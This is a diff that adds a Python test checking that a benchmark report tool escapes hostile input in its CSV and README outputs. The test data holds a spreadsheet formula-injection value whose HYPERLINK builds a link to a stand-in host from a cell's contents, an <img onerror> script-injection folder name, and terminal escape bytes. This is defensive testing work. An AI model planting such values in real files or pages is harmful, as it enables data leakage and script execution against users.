@@ -330,3 +330,31 @@ def test_report_cli_several_folders(fleet, tmp_path):
         assert bad.returncode == 2 and bad.stderr.startswith("mtbench: error: report:") and says in bad.stderr
         assert len(bad.stderr.strip().splitlines()) == 1
     assert "DIR [DIR ...]" in mtbench_cli("report", "--help").stdout
+
+
+def test_report_side_files_carry_hostile_text_as_text(tmp_path):
+    """Issue 51 item 13: summary.csv passed =1+1 and =HYPERLINK(...) through to a spreadsheet; README.md carried raw
+    <img onerror=...> from a folder name, newlines that broke its table and ESC bytes. Now a formula is a quoted
+    text, HTML is escaped, control bytes are shown as \\xNN."""
+    import csv
+
+    from mtbench.report.build import make_report
+
+    hyperlink = '=HYPERLINK("x.example"&A1,"click")'
+    failed = fake_summary("=1+1", 2, 0.5, [50.0, 50.0], success=False)
+    failed["failure"] = {"kind": "error", "message": "boom\x1b[2J\nsecond line | cell"}
+    root = write_jobs(tmp_path / "runs", [fake_summary(hyperlink, 2, 0.5, [50.0, 50.0]), failed])
+    evil = root / "<img src=x onerror=alert(1)>\x1b[31m"
+    (root / sorted(p.name for p in root.iterdir())[0]).rename(evil)
+    out = make_report(root)
+    with open(out / "summary.csv", newline="") as f:
+        rows = list(csv.DictReader(f))
+    cells = [v for r in rows for v in r.values() if v]
+    assert "'=1+1" in cells and "'" + hyperlink in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    assert not any("\x1b" in c for c in cells)
+    text = (out / "README.md").read_text()
+    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;\\x1b[31m" in text
+    assert "\x1b" not in text and "boom\\x1b[2J\\x0asecond line \\| cell" in text
+    table = [line for line in text.splitlines() if line.startswith("| ")]
+    assert len(table) == 3 + 2  # jobs: the header and a row each, none broken across lines; boards: header, one
